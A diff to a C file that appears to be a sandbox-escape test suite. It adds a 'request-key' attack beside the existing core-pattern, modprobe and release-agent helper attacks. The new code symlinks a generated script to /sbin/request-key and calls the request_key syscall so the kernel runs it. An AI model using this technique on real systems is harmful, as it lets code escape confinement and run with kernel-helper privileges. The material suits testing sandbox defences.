@@ -4,6 +4,7 @@
  */
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/keyctl.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -12,6 +13,7 @@
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -114,9 +116,22 @@ static void release_agent(void)
 	end_with_result("the release agent of a cgroup");
 }
 
+/* The kernel starts /sbin/request-key to have a key made that nobody has. */
+static void request_key(void)
+{
+	make_script();
+	mkdir("/sbin", 0755);
+	if (symlink(SCRIPT, "/sbin/request-key"))
+		held("symlink of /sbin/request-key");
+	syscall(SYS_request_key, "user", "countersign-attack", "x", (long)KEY_SPEC_PROCESS_KEYRING);
+	unlink("/sbin/request-key");
+	end_with_result("the helper for keys");
+}
+
 const struct attack helper_attacks[] = {
     {"core-pattern", core_pattern},
     {"modprobe", modprobe},
     {"release-agent", release_agent},
+    {"request-key", request_key},
     {0},
 };
